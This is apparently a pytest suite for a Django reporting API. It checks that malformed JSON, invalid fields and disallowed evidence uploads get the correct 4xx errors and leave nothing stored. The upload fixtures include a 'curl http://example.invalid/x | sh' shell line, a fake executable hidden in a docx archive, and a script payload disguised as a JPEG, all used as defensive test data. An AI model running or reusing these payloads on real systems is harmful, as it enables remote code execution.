"""POST /api/v1/reports and the staff action bodies: every bad input gets the right 4xx, names the bad
field, and leaves nothing behind (no case, no stored file). API.md §2."""

from __future__ import annotations

import base64
import io
import json
import math
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from integritas.cases import services
from integritas.cases.models import Case, Evidence, Via
from integritas.cases.receipts import ALPHABET
from tests.factories import PASSWORD, PDF_BYTES, make_unit, reload, report_data, submit
from tests.security.refusals import refusal_reason

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports"


# ---------------------------------------------------------------- helpers


def png_bytes() -> bytes:
    """A real 2×2 RGB PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


# A real 16×16 baseline JPEG (CPython's imghdr test image).
JPEG_BYTES = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8Q"
    "EBEQCgwSExIQEw8QEBD/2wBDAQMDAwQDBAgEBAgQCwkLEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQ"
    "EBAQEBAQEBD/wAARCAAQABADASIAAhEBAxEB/8QAFgABAQEAAAAAAAAAAAAAAAAABwQF/8QAJBAAAQQBBAICAwAAAAAAAAAAAQID"
    "BAYFBwgSExEiABQJMTL/xAAVAQEBAAAAAAAAAAAAAAAAAAAABv/EACMRAAECBQMFAAAAAAAAAAAAAAECEQMEBQYhABIxFRZhgeH/"
    "2gAMAwEAAhEDEQA/ABSm0mobc8HmExLUlRzzEWPkJWW+ulrsaUVAseUgslSlH9LKuPryIKuWPZdskzXmm3fX5m2nF4GlVxx/HOpx"
    "4ks51+MiU/Iaad7UcUo4tILoS4kqcWkezS0hO/HvuRp0rO6hWnWO1UisZVuFi4GFeyEpmGepa5S5SWVPuciFKRFLgSrwetnyPIB+"
    "Vb4N9mKhQMzo5po9XLdDs9d6ZVix2VEhiL9kuNPxw2gEKcDQ/rs8AuA8VAe0vdl7VOYn+27flGAUgmITjbhSmCg3BYlyeWDkMolv"
    "w4KOp1KM6iCNvngZHwetf//Z"
)

EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" * 8
SHELL_BYTES = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def zip_with_exe() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/setup.exe", EXE_BYTES)
    return buf.getvalue()


def stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def post_json(client: Client, body, path: str = URL, **extra):
    return client.post(path, data=json.dumps(body), content_type="application/json", **extra)


def post_raw(client: Client, body: bytes, content_type: str, path: str = URL, **extra):
    return client.post(path, data=body, content_type=content_type, **extra)


def post_multipart(client: Client, data, files: list[tuple[str, bytes, str]], path: str = URL, **extra):
    form: dict = {} if data is None else {"data": data if isinstance(data, str) else json.dumps(data)}
    if files:
        form["evidence"] = [SimpleUploadedFile(n, b, content_type=t) for n, b, t in files]
    return client.post(path, data=form, **extra)


def assert_error(response, status: int, code: str) -> dict:
    assert response.status_code == status, (response.status_code, response.content[:500])
    body = response.json()
    assert set(body) == {"error"}, body
    assert body["error"]["code"] == code, body
    assert isinstance(body["error"]["message"], str) and body["error"]["message"], body
    return body["error"]


def assert_invalid(response, *names: str) -> None:
    error = assert_error(response, 422, "invalid")
    assert set(error.get("fields") or {}) == set(names), error
    assert all(isinstance(v, str) and v for v in error["fields"].values()), error


@pytest.fixture
def client() -> Client:
    return Client()


@pytest.fixture
def nothing_created(db):
    """Asserts, after the test, that no case, evidence row or stored file was left behind."""
    cases, evidence, files = Case.objects.count(), Evidence.objects.count(), stored_files()
    yield
    assert Case.objects.count() == cases
    assert Evidence.objects.count() == evidence
    assert stored_files() == files


def strict_unit():
    """A top-level unit with the default policy: evidence required, no anonymous reports."""
    return make_unit("SMPN9", timezone="Asia/Jakarta", work_week="mon-sat")


# ---------------------------------------------------------------- 422: each field


REQUIRED = ["unit", "subject", "categories", "description", "good_faith", "reporter"]


@pytest.mark.parametrize("missing", REQUIRED)
def test_each_required_field_missing_is_named(client, org, nothing_created, missing):
    data = report_data(org.school, org.p_teacher)
    del data[missing]
    assert_invalid(post_json(client, data), missing)


@pytest.mark.parametrize("missing", REQUIRED)
def test_each_required_field_null_is_named(client, org, nothing_created, missing):
    data = report_data(org.school, org.p_teacher)
    data[missing] = None
    assert_invalid(post_json(client, data), missing)


def _del(path: str):
    def change(data: dict) -> None:
        *parents, last = path.split(".")
        node = data
        for key in parents:
            node = node[key]
        del node[last]

    return change


def _set(path: str, value):
    def change(data: dict) -> None:
        *parents, last = path.split(".")
        node = data
        for key in parents:
            node = node[key]
        node[last] = value

    return change


WRONG = [
    # (id, change, field named)
    ("unit-number", _set("unit", 42), "unit"),
    ("unit-list", _set("unit", ["SMPN1"]), "unit"),
    ("unit-unknown", _set("unit", "SMPN-TIDAK-ADA"), "unit"),
    ("unit-blank", _set("unit", "   "), "unit"),
    ("unit-nul", _set("unit", "SMP\x00N1"), "unit"),
    ("unit-too-long", _set("unit", "X" * 5000), "unit"),
    ("subject-string", _set("subject", "GURU"), "subject"),
    ("subject-list", _set("subject", ["GURU"]), "subject"),
    ("subject-position-other-unit", _set("subject", {"position": "KABID"}), "subject.position"),
    ("subject-position-unknown", _set("subject", {"position": "NOPE"}), "subject.position"),
    ("subject-position-number", _set("subject", {"position": 7}), "subject.position"),
    ("subject-empty-object", _set("subject", {}), "subject.name"),
    ("subject-name-number", _set("subject", {"name": 1, "description": "x"}), "subject.name"),
    ("subject-name-blank", _set("subject", {"name": " ", "description": "x"}), "subject.name"),
    ("categories-empty", _set("categories", []), "categories"),
    ("categories-unknown", _set("categories", ["bribery"]), "categories"),
    ("categories-string", _set("categories", "procurement"), "categories"),
    ("categories-object", _set("categories", {"procurement": True}), "categories"),
    ("categories-number-item", _set("categories", ["procurement", 3]), "categories"),
    ("categories-null-item", _set("categories", [None]), "categories"),
    ("description-number", _set("description", 12), "description"),
    ("description-blank", _set("description", "  \n "), "description"),
    ("description-nul", _set("description", "ada\x00nul"), "description"),
    ("description-object", _set("description", {"text": "x"}), "description"),
    ("good-faith-false", _set("good_faith", False), "good_faith"),
    ("good-faith-string", _set("good_faith", "true"), "good_faith"),
    ("good-faith-one", _set("good_faith", 1), "good_faith"),
    ("reporter-string", _set("reporter", "Siti"), "reporter"),
    ("reporter-no-name", _del("reporter.name"), "reporter.name"),
    ("reporter-blank-name", _set("reporter.name", ""), "reporter.name"),
    ("reporter-name-number", _set("reporter.name", 5), "reporter.name"),
    ("reporter-bad-email", _set("reporter.email", "siti-at-example.net"), "reporter.email"),
    ("reporter-email-number", _set("reporter.email", 5), "reporter.email"),
    ("reporter-bad-phone", _set("reporter.phone", "telepon saya"), "reporter.phone"),
    ("reporter-bad-nik", _set("reporter.nik", "123"), "reporter.nik"),
    ("anonymous-string", _set("anonymous", "yes"), "anonymous"),
    ("anonymous-disallowed", _set("anonymous", True), "anonymous"),
    ("decision-list", _set("decision", ["x"]), "decision"),
    ("decision-bad-date", _set("decision.date", "01/07/2026"), "decision.date"),
    ("decision-impossible-date", _set("decision.date", "2026-02-30"), "decision.date"),
    ("decision-date-number", _set("decision.date", 20260701), "decision.date"),
    ("decision-bad-kind", _set("decision.kind", "bribe"), "decision.kind"),
    ("decision-title-nul", _set("decision.title", "a\x00b"), "decision.title"),
]


@pytest.mark.parametrize(("change", "field"), [w[1:] for w in WRONG], ids=[w[0] for w in WRONG])
def test_each_wrong_field_is_named(client, org, nothing_created, change, field):
    data = report_data(org.school, org.p_teacher)
    change(data)
    assert_invalid(post_json(client, data), field)


def test_anonymous_with_reporter_null_where_policy_disallows(client, org, nothing_created):
    data = report_data(org.school, org.p_teacher, anonymous=True, reporter=None)
    assert_invalid(post_json(client, data), "anonymous")


def test_reporter_without_email_and_phone_names_both_contacts(client, org, nothing_created):
    data = report_data(org.school, org.p_teacher)
    data["reporter"]["email"] = None
    del data["reporter"]["phone"]
    assert_invalid(post_json(client, data), "reporter.email", "reporter.phone")


def test_several_problems_are_named_together(client, org, nothing_created):
    data = report_data(org.school, org.p_teacher, categories=[], good_faith=False, description="")
    assert_invalid(post_json(client, data), "categories", "good_faith", "description")


def test_no_evidence_where_policy_requires_it(client, org, nothing_created):
    unit = strict_unit()
    data = report_data(unit)  # subject by name: goes to triage
    assert_invalid(post_json(client, data), "evidence")
    assert_invalid(post_multipart(client, data, []), "evidence")


def test_evidence_required_report_is_accepted_with_a_file(client, org):
    unit = strict_unit()
    r = post_multipart(client, report_data(unit), [("bukti.pdf", PDF_BYTES, "application/pdf")])
    assert r.status_code == 201, r.content
    assert Case.objects.filter(reference=r.json()["reference"]).exists()


# ---------------------------------------------------------------- 400 malformed


MALFORMED = [
    ("broken-json", b'{"unit": "SMPN1",', "application/json"),
    ("trailing-garbage", b'{"unit": "SMPN1"} xx', "application/json"),
    ("single-quotes", b"{'unit': 'SMPN1'}", "application/json"),
    ("non-utf8", b'{"unit": "SMPN1", "description": "caf\xe9 \xff\xfe"}', "application/json"),
    ("utf16", '{"unit": "SMPN1"}'.encode("utf-16"), "application/json"),
    ("empty", b"", "application/json"),
    ("empty-no-type", b"", ""),
    ("text-plain", b'{"unit": "SMPN1"}', "text/plain"),
    ("form-urlencoded", b"unit=SMPN1", "application/x-www-form-urlencoded"),
    ("xml", b"<report/>", "application/xml"),
    ("deeply-nested", b"[" * 100_000 + b"]" * 100_000, "application/json"),
    ("huge-int", b'{"unit": ' + b"9" * 5000 + b"}", "application/json"),
]


@pytest.mark.parametrize(("body", "ctype"), [m[1:] for m in MALFORMED], ids=[m[0] for m in MALFORMED])
def test_malformed_bodies_get_400(client, org, nothing_created, body, ctype):
    assert_error(post_raw(client, body, ctype), 400, "malformed")


@pytest.mark.parametrize("body", [[], [report_data("SMPN1")], "report", 42, None, True])
def test_json_of_the_wrong_shape_gets_422_naming_body(client, org, nothing_created, body):
    assert_invalid(post_json(client, body), "body")


def test_multipart_without_data_part_gets_400(client, org, nothing_created):
    r = post_multipart(client, None, [("bukti.pdf", PDF_BYTES, "application/pdf")])
    assert_error(r, 400, "malformed")


def test_multipart_with_broken_json_in_data_gets_400(client, org, nothing_created):
    r = post_multipart(client, '{"unit": ', [("bukti.pdf", PDF_BYTES, "application/pdf")])
    assert_error(r, 400, "malformed")


def test_truncated_multipart_is_refused(client, org, nothing_created):
    # Django reads a multipart without its closing boundary leniently: the part it got is checked.
    body = b'--abc\r\nContent-Disposition: form-data; name="data"\r\n\r\n{"unit": 1}'
    r = post_raw(client, body, "multipart/form-data; boundary=abc")
    assert r.status_code in (400, 422), r.content
    assert r.json()["error"]["code"] in ("malformed", "invalid")


def test_multipart_without_boundary_gets_400(client, org, nothing_created):
    r = post_raw(client, b"whatever", "multipart/form-data")
    assert_error(r, 400, "malformed")


@pytest.mark.parametrize("escape", ["\\ud800", "\\udfff", "x\\ud83dy"])
def test_lone_surrogate_escape_is_malformed(client, org, nothing_created, escape):
    """\\ud800 alone is no character: it could be neither stored in PostgreSQL nor shown as UTF-8."""
    body = json.dumps(report_data(org.school, org.p_teacher)).replace("Siti Aminah", "Siti " + escape)
    assert_error(post_raw(client, body.encode(), "application/json"), 400, "malformed")
    r = post_multipart(client, body, [("bukti.pdf", PDF_BYTES, "application/pdf")])
    assert_error(r, 400, "malformed")


def test_escaped_surrogate_pair_is_fine(client, org):
    body = json.dumps(report_data(org.school, org.p_teacher, description="Bukti \U0001f4f7 terlampir"))
    assert "\\ud83d\\udcf7" in body
    r = post_raw(client, body.encode(), "application/json")
    assert r.status_code == 201, r.content


# ---------------------------------------------------------------- uploads


# Each refusal keeps the code clients know and names its reason (integritas/messages/security.py).
@pytest.mark.parametrize(
    ("name", "payload", "code"),
    [
        ("bukti.pdf", EXE_BYTES, "file_type_unknown"),
        ("bukti.pdf", SHELL_BYTES, "file_type_unknown"),
        ("catatan.sh", SHELL_BYTES, "file_type_unknown"),
        ("laporan.docx", zip_with_exe(), "document_program"),
        ("foto.jpg", b"<html><script>alert(1)</script></html>", "file_type_unknown"),
        ("foto.png", b"\x89PNX" + b"\x00" * 100, "file_type_unknown"),
    ],
    ids=["exe-as-pdf", "shell-as-pdf", "shell", "zip-with-exe", "html-as-jpg", "bad-png-magic"],
)
def test_disallowed_file_types_get_415(client, org, nothing_created, name, payload, code):
    data = report_data(org.school, org.p_teacher)
    r = post_multipart(client, data, [(name, payload, "application/pdf")])
    error = assert_error(r, 415, "unsupported_file_type")
    assert refusal_reason(error) == code and "evidence" in error["fields"]


def test_one_bad_file_among_good_ones_stores_nothing(client, org, nothing_created):
    data = report_data(org.school, org.p_teacher)
    files = [("a.pdf", PDF_BYTES, "application/pdf"), ("b.pdf", EXE_BYTES, "application/pdf")]
    error = assert_error(post_multipart(client, data, files), 415, "unsupported_file_type")
    assert refusal_reason(error) == "file_type_unknown"


def test_empty_file_gets_422(client, org, nothing_created):
    data = report_data(org.school, org.p_teacher)
    r = post_multipart(client, data, [("kosong.pdf", b"", "application/pdf")])
    assert_invalid(r, "evidence")


def test_file_above_policy_limit_gets_413(client, org, nothing_created):
    org.school.policy = {"max_upload_mb": 1}
    org.school.save()
    big = PDF_BYTES + b"0" * (1_200_000 - len(PDF_BYTES))
    r = post_multipart(
        client, report_data(org.school, org.p_teacher), [("besar.pdf", big, "application/pdf")]
    )
    assert_error(r, 413, "too_large")


def test_file_just_under_policy_limit_is_accepted(client, org):
    org.school.policy = {"max_upload_mb": 1}
    org.school.save()
    payload = PDF_BYTES + b"0" * (1024 * 1024 - len(PDF_BYTES))
    r = post_multipart(
        client, report_data(org.school, org.p_teacher), [("pas.pdf", payload, "application/pdf")]
    )
    assert r.status_code == 201, r.content


def _token(client: Client, username: str) -> str:
    r = post_json(client, {"username": username, "password": PASSWORD}, "/api/v1/auth/token")
    assert r.status_code == 200, r.content
    return r.json()["token"]


def test_real_files_are_accepted_and_downloaded_byte_identical(client, org):
    files = [
        ("foto.png", png_bytes(), "image/png"),
        ("foto.jpg", JPEG_BYTES, "image/jpeg"),
        ("surat keputusan.pdf", PDF_BYTES, "application/pdf"),
    ]
    # the declared type is ignored: the content decides
    sent = [(n, b, "application/octet-stream") for n, b, _ in files]
    r = post_multipart(client, report_data(org.school, org.p_teacher), sent)
    assert r.status_code == 201, r.content
    reference = r.json()["reference"]
    assert len(stored_files()) == 3
    # nothing is stored in clear
    for path in stored_files():
        stored = path.read_bytes()
        assert all(payload not in stored for _, payload, _ in files)

    auth = {"HTTP_AUTHORIZATION": f"Bearer {_token(client, 'vice')}"}
    case = client.get(f"/api/v1/cases/{reference}", **auth)
    assert case.status_code == 200, case.content
    evidence = {e["name"]: e for e in case.json()["evidence"]}
    assert set(evidence) == {n for n, _, _ in files}
    for name, payload, ctype in files:
        item = evidence[name]
        assert item["size"] == len(payload) and item["content_type"] == ctype
        download = client.get(f"/api/v1/cases/{reference}/evidence/{item['id']}", **auth)
        assert download.status_code == 200
        assert b"".join(download.streaming_content) == payload
        assert download["Content-Type"] == ctype


# ---------------------------------------------------------------- anonymous, reference, receipt


def test_valid_anonymous_report_where_policy_allows(client, org):
    org.school.policy = {"allow_anonymous": True}
    org.school.save()
    data = report_data(org.school, org.p_teacher, anonymous=True, reporter=None)
    r = post_json(client, data)
    assert r.status_code == 201, r.content
    body = r.json()
    assert re.fullmatch(r"BK-\d{4}-\d{6}", body["reference"])
    assert body["status"] == "examination"
    receipt = body["receipt"]
    symbols = [ch for ch in receipt if ch != "-"]
    assert set(symbols) <= set(ALPHABET), receipt
    assert len(symbols) * math.log2(len(set(ALPHABET))) >= 80, receipt
    case = Case.objects.get(reference=body["reference"])
    assert case.anonymous is True
    assert receipt not in str(case.receipt_hash)
    tracked = client.get("/api/v1/track", HTTP_X_RECEIPT=receipt)
    assert tracked.status_code == 200 and tracked.json()["reference"] == body["reference"]


def test_receipts_differ_between_reports(client, org):
    a = post_json(client, report_data(org.school, org.p_teacher)).json()
    b = post_json(client, report_data(org.school, org.p_teacher)).json()
    assert a["receipt"] != b["receipt"] and a["reference"] != b["reference"]


# ---------------------------------------------------------------- staff action bodies


@pytest.fixture
def examination_case(org):
    return submit(org.school, org.p_teacher).case


def _staff(client: Client, username: str) -> dict[str, str]:
    return {"HTTP_AUTHORIZATION": f"Bearer {_token(client, username)}"}


def _unchanged(case: Case, status: str) -> None:
    fresh = reload(case)
    assert fresh.status == status and not fresh.conclusion and not fresh.review_decision


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"conclusion": "maybe", "findings": "Terbukti"}, "conclusion"),
        ({"conclusion": None, "findings": "Terbukti"}, "conclusion"),
        ({"findings": "Terbukti"}, "conclusion"),
        ({"conclusion": "founded"}, "findings"),
        ({"conclusion": "founded", "findings": None}, "findings"),
        ({"conclusion": "founded", "findings": 5}, "findings"),
        ({"conclusion": "founded", "findings": "  "}, "findings"),
        ({"conclusion": "founded", "findings": "ada\x00nul"}, "findings"),
    ],
)
def test_examination_body_is_validated(client, org, examination_case, body, field):
    r = post_json(
        client, body, f"/api/v1/cases/{examination_case.reference}/examination", **_staff(client, "vice")
    )
    assert_invalid(r, field)
    _unchanged(examination_case, "examination")


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"decision": "nuke", "notes": "x"}, "decision"),
        ({"decision": "", "notes": "x"}, "decision"),
        ({"notes": "x"}, "decision"),
        ({"decision": "uphold"}, "notes"),
        ({"decision": "uphold", "notes": "\x00"}, "notes"),
    ],
)
def test_review_body_is_validated(client, org, examination_case, body, field):
    services.case_examine(
        via=Via.API, case=examination_case, actor=org.vice, conclusion="founded", findings="Terbukti"
    )
    r = post_json(
        client, body, f"/api/v1/cases/{examination_case.reference}/review", **_staff(client, "principal")
    )
    assert_invalid(r, field)
    assert reload(examination_case).status == "review"
    assert not reload(examination_case).review_decision


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"title": "Pengadaan ulang", "due_date": "31-12-2026"}, "due_date"),
        ({"title": "Pengadaan ulang", "due_date": "2026-02-30"}, "due_date"),
        ({"title": "Pengadaan ulang", "due_date": "besok"}, "due_date"),
        ({"title": "Pengadaan ulang", "due_date": 20261231}, "due_date"),
        ({"title": "Pengadaan ulang"}, "due_date"),
        ({"due_date": "2026-12-31"}, "title"),
        ({"title": "a\x00b", "due_date": "2026-12-31"}, "title"),
    ],
)
def test_follow_up_body_is_validated(client, org, examination_case, body, field):
    services.case_examine(
        via=Via.API, case=examination_case, actor=org.vice, conclusion="founded", findings="Terbukti"
    )
    services.case_review(
        via=Via.API, case=reload(examination_case), actor=org.principal, decision="revoke", notes="Dicabut"
    )
    assert reload(examination_case).status == "follow_up"
    r = post_json(
        client, body, f"/api/v1/cases/{examination_case.reference}/follow-ups", **_staff(client, "schoolteam")
    )
    assert_invalid(r, field)
    assert reload(examination_case).follow_ups.count() == 0


@pytest.mark.parametrize(
    "body",
    [
        b'{"conclusion": "founded", ',
        b"\xff\xfe\x00",
        b"not json",
        b'{"conclusion": ' + b"1" * 5000 + b"}",
        b'{"conclusion": "founded", "findings": "\\ud800"}',
        b"[" * 100_000 + b"]" * 100_000,
    ],
    ids=["truncated", "binary", "text", "huge-int", "lone-surrogate", "deeply-nested"],
)
def test_malformed_json_on_staff_endpoint_gets_400(client, org, examination_case, body):
    r = post_raw(
        client,
        body,
        "application/json",
        f"/api/v1/cases/{examination_case.reference}/examination",
        **_staff(client, "vice"),
    )
    assert_error(r, 400, "malformed")
    _unchanged(examination_case, "examination")


@pytest.mark.parametrize("body", [[], "founded", 1, None])
def test_wrong_shape_on_staff_endpoint_gets_422(client, org, examination_case, body):
    r = post_json(
        client, body, f"/api/v1/cases/{examination_case.reference}/examination", **_staff(client, "vice")
    )
    assert r.status_code in (400, 422), r.content
    assert r.json()["error"]["code"] in ("malformed", "invalid")
    _unchanged(examination_case, "examination")


def test_valid_examination_still_works(client, org, examination_case):
    r = post_json(
        client,
        {"conclusion": "founded", "findings": "Terbukti"},
        f"/api/v1/cases/{examination_case.reference}/examination",
        **_staff(client, "vice"),
    )
    assert r.status_code == 200, r.content
    assert r.json()["status"] == "review"


def test_too_many_form_fields_get_the_json_error_not_djangos_page(client, org, nothing_created):
    """Security finding 14: 1,500 fields (Django's TooManyFieldsSent) is a 400 in the error format."""
    fields = "&".join(f"f{i}=x" for i in range(1500))
    body = '--b\r\nContent-Disposition: form-data; name="data"\r\n\r\n{}\r\n--b--\r\n'
    r = client.post(URL, data=fields, content_type="application/x-www-form-urlencoded")
    assert r.status_code == 400 and r["Content-Type"].startswith("application/json")
    many = "".join(f'--b\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nx\r\n' for i in range(1500))
    r = client.post(
        URL,
        data=(many + body).encode(),
        content_type="multipart/form-data; boundary=b",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    error = assert_error(r, 400, "malformed")
    assert error["message"] == "The request has too many fields."
